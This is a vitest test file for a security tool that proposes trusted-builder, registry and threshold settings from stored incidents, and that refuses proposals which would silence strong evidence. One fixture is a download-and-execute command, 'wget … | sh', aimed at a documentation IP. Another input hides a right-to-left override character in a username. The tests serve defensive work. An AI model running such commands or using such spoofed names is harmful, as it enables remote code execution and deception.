import { describe, expect, it } from 'vitest';
import { stored, type ToldBuild } from '../fixtures/stored.js';
import { defaultSettings, type Settings } from '../settings.js';
import { readSettings } from '../settings-file.js';
import { proposeSettings, type Stored } from './propose.js';

const several = (told: ToldBuild): Stored[] => [1, 2, 3].map((n) => stored(n, told));
const attack = 'wget -qO- http://203.0.113.9/x | sh';
const tuned = (all: Stored[], settings: Settings = defaultSettings) =>
  proposeSettings(all, settings, 2);

describe('proposals', () => {
  it('trust a builder that led to incidents again and again, by all that is known of it', () => {
    const { proposals, file } = tuned(several({}));
    expect(proposals).toMatchObject([{ setting: 'TrustedBuilders', lowered: [], raised: [] }]);
    expect(proposals[0]?.silenced).toHaveLength(3);
    expect(file.TrustedBuilders).toEqual([
      {
        Name: 'factory below /usr/bin/make in /srv/factory',
        User: 'factory',
        Path: '/srv/factory',
        Parent: '/usr/bin/make',
      },
    ]);
  });

  it('do what they say when they are read back', () => {
    const { proposals, file } = tuned(several({}));
    const settings = readSettings(JSON.stringify(file), 'settings.yaml');
    expect(settings.trustedBuilders).toHaveLength(1);
    expect(proposals).not.toEqual([]);
    expect(tuned(several({}), settings).proposals).toEqual([]);
  });

  it('allow a registry that the daemon reaches by name, beside those that are allowed', () => {
    const { proposals, file } = tuned(several({ user: '', daemon: 'registry.corp.example' }));
    expect(proposals).toMatchObject([
      { setting: 'RegistryAllowList', about: 'registry.corp.example' },
    ]);
    expect(file.RegistryAllowList).toEqual([
      ...defaultSettings.registries,
      'registry.corp.example',
    ]);
    const ids = proposals.flatMap(({ silenced, lowered }) => silenced.concat(lowered));
    expect(ids.map(({ incidentId }) => incidentId)).toEqual(['i-1', 'i-2', 'i-3']);
  });

  it('raise the number of images that is many', () => {
    const { file } = tuned(several({ user: '', recent: 14 }));
    expect(file.NewImageThreshold).toBe(16);
  });

  it('are none from a single incident', () => {
    expect(tuned([stored(1, {})]).proposals).toEqual([]);
  });
});

describe('what is never proposed', () => {
  it('a setting that would have lowered an incident with strong evidence', () => {
    const all = [...several({}), stored(9, { command: attack })];
    expect(tuned(all)).toMatchObject({
      proposals: [],
      refusals: [{ setting: 'TrustedBuilders', incidentId: 'i-9' }],
    });
    expect(tuned(all).refusals[0]?.evidence).toContain('download-executed');
  });

  it.each([
    ['a service account', { user: 'www-data' }],
    ['what stands below a web server', { above: ['/bin/sh x', '/usr/sbin/apache2 -k start'] }],
    ['a person at a terminal', { above: ['/bin/bash', '/usr/bin/tmux'] }],
    ['a name that is not what it seems', { user: 'fac\u202etory' }],
  ])('trust in %s', (_, told) => {
    expect(tuned(several(told)).proposals).toEqual([]);
  });

  it('a directory in which anybody may write', () => {
    const { file } = tuned(several({ context: '/tmp/x' }));
    expect(file.TrustedBuilders).toEqual([
      { Name: 'factory below /usr/bin/make', User: 'factory', Parent: '/usr/bin/make' },
    ]);
  });
});
